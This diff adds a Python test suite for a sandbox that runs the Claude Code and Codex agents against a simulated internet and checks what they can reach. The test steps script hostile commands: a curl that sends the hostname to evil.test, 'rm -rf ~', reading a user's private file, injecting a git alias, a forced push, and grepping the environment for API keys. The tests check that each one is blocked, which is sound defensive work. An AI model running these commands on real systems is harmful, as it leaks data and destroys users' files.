@@ -1,0 +1,200 @@
+#!/usr/bin/env python3
+# SPDX-License-Identifier: Apache-2.0
+"""Real agents behind real walls: Claude Code and Codex, whose models are played by the fake internet (agent_api.py).
+
+Each is started as a person would start it. What happened is read on the disk, at the far end of the wire and in the
+events; exit statuses of agents mislead. tools/deps --test installs them."""
+
+import json
+import os
+import subprocess
+import sys
+import tempfile
+from pathlib import Path
+
+sys.path.insert(0, str(Path(__file__).resolve().parent.parent))
+
+import agent_api  # noqa: E402
+from harness import PATH, Skip, eq, has, has_not, lasting, main, test  # noqa: E402
+from internet import Internet  # noqa: E402
+
+AGENTS = Path(__file__).resolve().parent.parent.parent / "build" / "agents"
+KEYS = {"ANTHROPIC_API_KEY": "sk-ant-api03-RealKeyRealKey0123456789abcdef",
+        "OPENAI_API_KEY": "sk-proj-RealKeyRealKey0123456789abcdefghij"}
+# Codex asks its own service for models and opens a WebSocket to it unless a provider is named.
+PROVIDER = ("-m", "gpt-5", "-c", "model_provider=far", "-c",
+            'model_providers.far={name="far",base_url="https://api.openai.com/v1",env_key="OPENAI_API_KEY",wire_api="responses"}')
+MCP = r'''
+import json, sys
+for line in sys.stdin:
+    q = json.loads(line)
+    if q.get("method") == "initialize":
+        a = {"protocolVersion": q["params"]["protocolVersion"], "capabilities": {"tools": {}}, "serverInfo": {"name": "mini", "version": "1"}}
+    elif q.get("method") == "tools/list":
+        open("mcp.up", "w").close()
+        a = {"tools": [{"name": "mark", "description": "mark", "inputSchema": {"type": "object", "properties": {"text": {"type": "string"}}}}]}
+    elif q.get("method") == "tools/call":
+        open("mcp.txt", "w").write(q["params"]["arguments"]["text"])
+        a = {"content": [{"type": "text", "text": "marked"}]}
+    else:
+        a = {}
+    if "id" in q:
+        print(json.dumps({"jsonrpc": "2.0", "id": q["id"], "result": a}), flush=True)
+'''
+world = None
+
+
+class World:
+    def __init__(self):
+        self.d = Path(tempfile.mkdtemp(prefix="agents-"))
+        self.d.chmod(0o755)
+        new = ("-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes")
+        self.openssl("req", "-x509", *new, "-days", "2", "-keyout", "root.key", "-out", "trust.pem", "-subj", "/CN=Test Root",
+                     "-addext", "basicConstraints=critical,CA:TRUE", "-addext", "keyUsage=critical,keyCertSign")
+        (self.d / "ext").write_text("subjectAltName=" + ",".join("DNS:" + h for h in agent_api.HOSTS))
+        self.openssl("req", *new, "-keyout", "s.key", "-out", "csr", "-subj", "/CN=test")
+        self.openssl("x509", "-req", "-in", "csr", "-CA", "trust.pem", "-CAkey", "root.key", "-CAcreateserial", "-days", "2",
+                     "-extfile", "ext", "-out", "s.pem")
+        chain = self.d / "chain.pem"
+        chain.write_text((self.d / "s.pem").read_text() + (self.d / "s.key").read_text())
+        self.net = Internet(tls=str(chain))
+        lasting.add(self.net.pid)
+
+    def openssl(self, *args):
+        subprocess.run(["openssl", *args], cwd=self.d, check=True, capture_output=True)
+
+    def env(self):
+        return {**KEYS, "SSL_CERT_FILE": str(self.d / "trust.pem"), "PATH": f"{AGENTS}/node_modules/.bin:{PATH}"}
+
+    def calls(self, host):
+        return [c for c in self.net.lines() if c["kind"] == "api" and c["host"] == host and "results" in c]
+
+
+def there(program):
+    global world
+    if os.geteuid() != 0:
+        raise Skip("a fake internet needs root")
+    if not (AGENTS / "node_modules" / ".bin" / program).exists():
+        raise Skip(f"{program} is not installed; tools/deps --test does it")
+    if world is None:
+        world = World()
+    world.net.clear()
+    return world
+
+
+def script(*steps):
+    return f"SCRIPT {json.dumps(steps)} END"
+
+
+def claude(box, w, *steps, more=(), args=()):
+    r = box.run("claude", ".", "--read", AGENTS, *more, "--", "-p", script(*steps), *args, env=w.env(), timeout=40)
+    eq(r.rc, 0, r.out + r.err)
+    return r, [c["results"] for c in w.calls("api.anthropic.com")][-1]
+
+
+def codex(box, w, *steps):
+    r = box.run("codex", ".", "--read", AGENTS, "--", "codex", "exec", "--dsp", "--skip-git-repo-check", *PROVIDER,
+                script(*steps), env=w.env(), timeout=40)
+    eq(r.rc, 0, r.out + r.err)
+    return r, [c["results"] for c in w.calls("api.openai.com")][-1]
+
+
+def events(box, name, kind):
+    r = box.cli("events", name, "--json", "--type", kind)
+    eq(r.rc, 0, r.err)
+    return [json.loads(line)["data"] for line in r.out.splitlines()]
+
+
+def nowhere(box, key):
+    """The key is in no file that Vitrine keeps and in none that an agent left."""
+    for top in (box.state, box.ws, box.home):
+        for f in top.rglob("*"):
+            if f.is_file() and not f.is_symlink() and key.encode() in f.read_bytes():
+                raise AssertionError(f"the key lies in {f}")
+
+
+@test(timeout=60)
+def claude_works(box):
+    """It runs commands and edits files; the model's host gets the real key, the inside never sees it."""
+    w = there("claude")
+    key = KEYS["ANTHROPIC_API_KEY"]
+    r, results = claude(box, w, {"sh": "echo made > made.txt; env | grep -i key; id -un"}, {"write": [str(box.ws / "w.txt"), "hello"]})
+    eq((box.read("made.txt"), box.read("w.txt")), ("made\n", "hello"), "on the disk")
+    eq({c["key"] for c in w.calls("api.anthropic.com")}, {key}, "on the wire")
+    has(results[0], "ANTHROPIC_API_KEY=sk-ant-api03-")
+    has_not(results[0] + r.out + r.err, key)
+    nowhere(box, key)
+    name = f"claude-{box.ws.name}"
+    requests = [e for e in events(box, name, "net.request") if e["host"] == "api.anthropic.com"]
+    assert any(e["method"] == "POST" and "/v1/messages" in e["request"] for e in requests), requests
+    eq(events(box, name, "session.started")[-1]["argv"][:2], ["claude", "--dangerously-skip-permissions"])
+    has_not(json.dumps(requests), key)
+
+
+@test(who=("user",), timeout=60)
+def claude_is_held(box):
+    """What it is told to do and may not: another host, the user's files, what would run on the host later, its own home."""
+    w = there("claude")
+    (box.home / "diary.txt").write_text("dear diary")
+    box.own(box.home)
+    box.write(".git/config", "[core]\n")
+    _, results = claude(
+        box, w, {"sh": "curl -sS -m 5 http://evil.test/$(hostname); echo rc $?"}, {"sh": f"cat {box.home}/diary.txt"},
+        {"sh": "echo '[alias] x = !id' >> .git/config"}, {"sh": "rm -rf ~"}, {"sh": "git push --force origin main"})
+    has(results[0], "no rule allows evil.test:80")
+    has(results[1], "No such file")
+    has(results[2], "Read-only")
+    has(results[3], "Vitrine guard", "home directory")
+    has(results[4], "Vitrine guard")
+    eq(w.net.hits("evil.test"), [], "at the far end")
+    eq(box.read(".git/config"), "[core]\n")
+    has_not(json.dumps(results), "dear diary")
+    refusals = events(box, f"claude-{box.ws.name}", "net.verdict")
+    assert any(e["host"] == "evil.test" and e["verdict"] == "deny" for e in refusals), refusals
+
+
+@test(who=("user",), timeout=60)
+def claude_in_review(box):
+    """Nothing reaches the workspace before somebody says so."""
+    w = there("claude")
+    box.write("old.txt", "old\n")
+    claude(box, w, {"sh": "echo new > new.txt; rm old.txt"}, more=("--mode", "review"))
+    assert (box.ws / "old.txt").exists() and not (box.ws / "new.txt").exists()
+    name = f"claude-{box.ws.name}"
+    eq(sorted(box.cli("diff", name, "--name-only").out.split()), ["new.txt", "old.txt"])
+    eq(box.cli("apply", name).rc, 0)
+    assert not (box.ws / "old.txt").exists()
+    eq(box.read("new.txt"), "new\n")
+
+
+@test(who=("user",), timeout=60)
+def claude_uses_mcp(box):
+    """A server of the project runs inside, beside the agent."""
+    w = there("claude")
+    box.write("mini.py", MCP)
+    box.write("mcp.json", json.dumps({"mcpServers": {"mini": {"command": "python3", "args": ["mini.py"]}}}))
+    # It connects while the model thinks already.
+    _, results = claude(box, w, {"sh": "until test -e mcp.up; do sleep 0.05; done; sleep 0.2"},
+                        {"call": "mcp__mini__mark", "with": {"text": "from a tool"}}, args=("--mcp-config", "mcp.json"))
+    eq(results[1], "marked")
+    eq(box.read("mcp.txt"), "from a tool")
+
+
+@test(timeout=60)
+def codex_works(box):
+    w = there("codex")
+    key = KEYS["OPENAI_API_KEY"]
+    r, results = codex(box, w, {"sh": "echo made > made.txt; env | grep -i key"}, {"sh": "curl -sS -m 5 http://evil.test/"},
+                       {"sh": "git push --force origin main"})
+    eq(box.read("made.txt"), "made\n", "on the disk")
+    eq({c["key"] for c in w.calls("api.openai.com")}, {key}, "on the wire")
+    has(results[0], "OPENAI_API_KEY=sk-proj-")
+    has(results[1], "no rule allows evil.test:80")
+    has(results[2], "Vitrine guard")
+    has_not(json.dumps(results) + r.out + r.err, key)
+    nowhere(box, key)
+    eq(w.net.hits("evil.test"), [])
+
+
+if __name__ == "__main__":
+    sys.exit(main())
